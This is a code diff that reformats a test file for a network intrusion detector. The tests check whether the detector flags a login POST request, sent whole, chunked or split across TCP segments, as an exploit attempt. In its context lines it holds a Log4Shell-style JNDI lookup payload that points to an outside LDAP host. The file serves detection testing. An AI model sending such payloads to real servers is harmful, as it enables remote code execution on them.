@@ -19,13 +19,26 @@ LOOKUP = b"${jndi:ldap://203.0.113.9/a}"
 
 
 def post(body: bytes, fields: bytes = b"") -> bytes:
-    return b"POST /login HTTP/1.1" + HOST + b"Content-Type: application/json\r\nContent-Length: %d\r\n" % len(body) + fields + b"\r\n" + body
+    return (
+        b"POST /login HTTP/1.1"
+        + HOST
+        + b"Content-Type: application/json\r\nContent-Length: %d\r\n" % len(body)
+        + fields
+        + b"\r\n"
+        + body
+    )
 
 
 def chunked(body: bytes, size: int, extension: bytes = b"") -> bytes:
     parts = [body[at : at + size] for at in range(0, len(body), size)]
     lines = b"".join(b"%x%s\r\n%s\r\n" % (len(part), extension, part) for part in parts)
-    return b"POST /login HTTP/1.1" + HOST + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + lines + b"0\r\n\r\n"
+    return (
+        b"POST /login HTTP/1.1"
+        + HOST
+        + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
+        + lines
+        + b"0\r\n\r\n"
+    )
 
 
 FORMS = {
@@ -58,19 +71,33 @@ FORMS = {
 def reported(request: bytes, size: int) -> bool:
     """Whether a request, in segments of ``size`` bytes, is reported as an exploit attempt of its sender."""
     ends = {"sport": 40000, "dport": 8080}
-    frames = [tcp_frame(ATTACKER, SERVER, flags=2, seq=0, **ends), tcp_frame(SERVER, ATTACKER, flags=18, seq=0, sport=8080, dport=40000)]
-    frames += [tcp_frame(ATTACKER, SERVER, request[at : at + size], seq=1 + at, **ends) for at in range(0, len(request), size)]
+    frames = [
+        tcp_frame(ATTACKER, SERVER, flags=2, seq=0, **ends),
+        tcp_frame(SERVER, ATTACKER, flags=18, seq=0, sport=8080, dport=40000),
+    ]
+    frames += [
+        tcp_frame(ATTACKER, SERVER, request[at : at + size], seq=1 + at, **ends) for at in range(0, len(request), size)
+    ]
     records: list[Record] = []
     engine = assemble(load_config(None), records.append)
     engine.process(batch_of(frames, times=[1_000_000 * SECOND + n * 1000 for n in range(len(frames))]))
     engine.finish()
     assert not list(engine.boundary.faults.values())
-    return any(record.kind == "alert" and isinstance(record.alert, dict) and record.alert["detector"] == "initial_access.exploit_attempt" for record in records)
+    return any(
+        record.kind == "alert"
+        and isinstance(record.alert, dict)
+        and record.alert["detector"] == "initial_access.exploit_attempt"
+        for record in records
+    )
 
 
 def table() -> dict[str, bool]:
     """Form → whether the page says that it is reported."""
-    rows = [[cell.strip() for cell in line.strip("|").split("|")] for line in PAGE.read_text("utf-8").splitlines() if line.startswith("| ")]
+    rows = [
+        [cell.strip() for cell in line.strip("|").split("|")]
+        for line in PAGE.read_text("utf-8").splitlines()
+        if line.startswith("| ")
+    ]
     return {cells[0]: cells[1] == "yes" for cells in rows if len(cells) == 2 and cells[1] in ("yes", "no")}
 
 
